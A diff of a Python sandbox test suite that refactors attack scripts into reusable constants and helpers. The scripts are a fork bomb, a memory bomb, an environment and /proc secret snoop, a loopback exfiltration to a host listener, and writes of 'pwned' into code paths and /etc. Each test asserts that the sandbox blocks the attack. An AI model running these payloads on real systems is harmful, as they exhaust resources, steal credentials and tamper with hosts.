@@ -22,6 +22,84 @@ from lero.sandbox.types import Limits, ScriptResult
 
 LIMITS = Limits(wall_s=4, mem_mb=256, cpus=1, pids=64, output_bytes=4096, tmp_mb=8, disk_mb=16)
 
+# The attacks, as scripts: run as they are here, and as the HRF/OEF of a whole run on a
+# custom env (tests/graph/test_custom_env_attacks.py).
+FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
+MEMORY_BOMB = "blocks = []\nwhile True:\n    blocks.append(bytearray(10**7))\n"
+NETWORK_EXTERNAL = (
+    "import socket\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=2)\n    print('CONNECTED')\n"
+    "except OSError as error:\n    print('blocked', error)\n"
+)
+SECRET_SNOOP = (
+    "import os\nprint(dict(os.environ))\n"
+    "for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self', str(os.getppid())]:\n"
+    "    try:\n        print(open(f'/proc/{pid}/environ', 'rb').read())\n"
+    "    except OSError as error:\n        print(pid, error)\n"
+)
+PROC_SYS_SNOOP = (
+    "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\nprint('pids', len(pids))\n"
+    "for pid in pids:\n    try:\n        print(open(f'/proc/{pid}/cmdline', 'rb').read())\n"
+    "    except OSError:\n        pass\nprint('net', sorted(os.listdir('/sys/class/net')))\n"
+)
+
+
+def loopback_attack(port: int) -> str:
+    """Connect to a listener on the host's loopback, bridge and hostname at PORT; print CONNECTED on success."""
+    targets = ["127.0.0.1", "172.17.0.1", socket.gethostname()]
+    return (
+        "import socket\n"
+        f"for host in {targets!r}:\n"
+        "    try:\n"
+        f"        socket.create_connection((host, {port}), timeout=1).sendall(b'exfiltrated')\n"
+        "        print('CONNECTED', host)\n"
+        "    except OSError as error:\n"
+        "        print('blocked', host, error)\n"
+    )
+
+
+def write_attack(targets: list[str]) -> str:
+    """Write 'pwned' to each of TARGETS; print WROTE on success, else blocked and the errno."""
+    return (
+        f"for path in {targets!r}:\n"
+        "    try:\n        open(path, 'a').write('pwned')\n        print('WROTE', path)\n"
+        "    except OSError as error:\n        print('blocked', path, error.errno)\n"
+    )
+
+
+def code_and_host_targets(token: str) -> list[str]:
+    """Where an attack would plant code: the image's lero, this checkout's, /etc (the last two on the host)."""
+    return [f"/opt/lero/training/pwn_{token}.py", str(REPO_ROOT / "training" / f"pwn_{token}.py"), f"/etc/pwn_{token}"]
+
+
+class Listener:
+    """A TCP listener on all the host's addresses that records whatever reaches it."""
+
+    def __init__(self) -> None:
+        self.socket = socket.create_server(("0.0.0.0", 0))
+        self.socket.settimeout(0.2)
+        self.port = self.socket.getsockname()[1]
+        self.received: list[bytes] = []
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._accept, daemon=True)
+
+    def _accept(self) -> None:
+        while not self._stop.is_set():
+            try:
+                connection, _ = self.socket.accept()
+            except TimeoutError:
+                continue
+            self.received.append(connection.recv(100) or b"<connected>")
+            connection.close()
+
+    def __enter__(self) -> Listener:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.socket.close()
+
 
 @pytest.fixture(params=["docker", "docker_env", "process"])
 def sandbox(request):
@@ -68,15 +146,11 @@ def test_fork_bomb(sandbox) -> None:
         pytest.skip(
             "as real root RLIMIT_NPROC is not enforced: the process backend cannot stop a fork bomb"
         )
-    source = (
-        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
-    )
-    assert run_attack(sandbox, source).status == "timeout"
+    assert run_attack(sandbox, FORK_BOMB).status == "timeout"
 
 
 def test_memory_bomb(sandbox) -> None:
-    source = "blocks = []\nwhile True:\n    blocks.append(bytearray(10**7))\n"
-    assert run_attack(sandbox, source).status == "oom"
+    assert run_attack(sandbox, MEMORY_BOMB).status == "oom"
 
 
 def test_infinite_loop(sandbox) -> None:
@@ -146,51 +220,16 @@ def test_disk_fill_job_dir_one_file(sandbox) -> None:
 
 def test_network_to_external_address(sandbox) -> None:
     needs_namespaces(sandbox)
-    source = (
-        "import socket\ntry:\n    socket.create_connection(('1.1.1.1', 80), timeout=2)\n    print('CONNECTED')\n"
-        "except OSError as error:\n    print('blocked', error)\n"
-    )
-    result = run_attack(sandbox, source)
+    result = run_attack(sandbox, NETWORK_EXTERNAL)
     assert "blocked" in result.stdout and "CONNECTED" not in result.stdout
 
 
 def test_network_to_host_loopback_listener(sandbox) -> None:
     needs_namespaces(sandbox)
-    listener = socket.create_server(("0.0.0.0", 0))
-    listener.settimeout(0.2)
-    port = listener.getsockname()[1]
-    received: list[bytes] = []
-    stop = threading.Event()
-
-    def accept() -> None:
-        while not stop.is_set():
-            try:
-                connection, _ = listener.accept()
-            except TimeoutError:
-                continue
-            received.append(connection.recv(100) or b"<connected>")
-            connection.close()
-
-    thread = threading.Thread(target=accept, daemon=True)
-    thread.start()
-    targets = ["127.0.0.1", "172.17.0.1", socket.gethostname()]
-    source = (
-        "import socket\n"
-        f"for host in {targets!r}:\n"
-        "    try:\n"
-        f"        socket.create_connection((host, {port}), timeout=1).sendall(b'exfiltrated')\n"
-        "        print('CONNECTED', host)\n"
-        "    except OSError as error:\n"
-        "        print('blocked', host, error)\n"
-    )
-    try:
-        result = run_attack(sandbox, source)
-    finally:
-        stop.set()
-        thread.join()
-        listener.close()
+    with Listener() as listener:
+        result = run_attack(sandbox, loopback_attack(listener.port))
     assert "CONNECTED" not in result.stdout
-    assert received == []
+    assert listener.received == []
 
 
 def test_host_secret_never_enters(sandbox, monkeypatch) -> None:
@@ -198,43 +237,22 @@ def test_host_secret_never_enters(sandbox, monkeypatch) -> None:
     secret = "sk-" + secrets.token_hex(16)
     monkeypatch.setenv("OPENAI_API_KEY", secret)
     monkeypatch.setenv("LERO_TEST_SECRET", secret)
-    source = (
-        "import os\nprint(dict(os.environ))\n"
-        "for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self', str(os.getppid())]:\n"
-        "    try:\n        print(open(f'/proc/{pid}/environ', 'rb').read())\n"
-        "    except OSError as error:\n        print(pid, error)\n"
-    )
-    result = run_attack(sandbox, source)
+    result = run_attack(sandbox, SECRET_SNOOP)
     assert result.status == "ok"
     assert secret not in result.stdout + result.stderr
     assert "LERO_TEST_SECRET" not in result.stdout
 
 
 def test_writing_to_the_code_and_the_host(sandbox) -> None:
-    token = secrets.token_hex(4)
-    targets = [
-        f"/opt/lero/training/pwn_{token}.py",
-        str(REPO_ROOT / "training" / f"pwn_{token}.py"),
-        f"/etc/pwn_{token}",
-    ]
-    source = (
-        f"for path in {targets!r}:\n"
-        "    try:\n        open(path, 'w').write('pwned')\n        print('WROTE', path)\n"
-        "    except OSError as error:\n        print('blocked', path, error.errno)\n"
-    )
-    result = run_attack(sandbox, source)
+    targets = code_and_host_targets(secrets.token_hex(4))
+    result = run_attack(sandbox, write_attack(targets))
     assert "WROTE" not in result.stdout
     assert not any(Path(p).exists() for p in targets[1:])
 
 
 def test_proc_and_sys_show_no_host_processes(sandbox) -> None:
     needs_namespaces(sandbox)
-    source = (
-        "import os\npids = [p for p in os.listdir('/proc') if p.isdigit()]\nprint('pids', len(pids))\n"
-        "for pid in pids:\n    try:\n        print(open(f'/proc/{pid}/cmdline', 'rb').read())\n"
-        "    except OSError:\n        pass\nprint('net', sorted(os.listdir('/sys/class/net')))\n"
-    )
-    result = run_attack(sandbox, source)
+    result = run_attack(sandbox, PROC_SYS_SNOOP)
     assert result.status == "ok"
     assert int(result.stdout.split()[1]) <= 3  # the script itself (and its namespace init)
     assert "pytest" not in result.stdout
@@ -271,10 +289,5 @@ def test_the_custom_envs_files_are_read_only(docker_env_sandbox) -> None:
     from lero.sandbox.image import image_site
 
     targets = [f"{ENV_ROOT}/attack_gather_env.py", f"{ENV_ROOT}/pwn.py", f"{image_site()}/pettingzoo/pwn.py"]
-    source = (
-        f"for path in {targets!r}:\n"
-        "    try:\n        open(path, 'a').write('pwned')\n        print('WROTE', path)\n"
-        "    except OSError as error:\n        print('blocked', path, error.errno)\n"
-    )
-    result = run_attack(docker_env_sandbox, source)
+    result = run_attack(docker_env_sandbox, write_attack(targets))
     assert result.status == "ok" and result.stdout.count("blocked") == 3, result.stdout
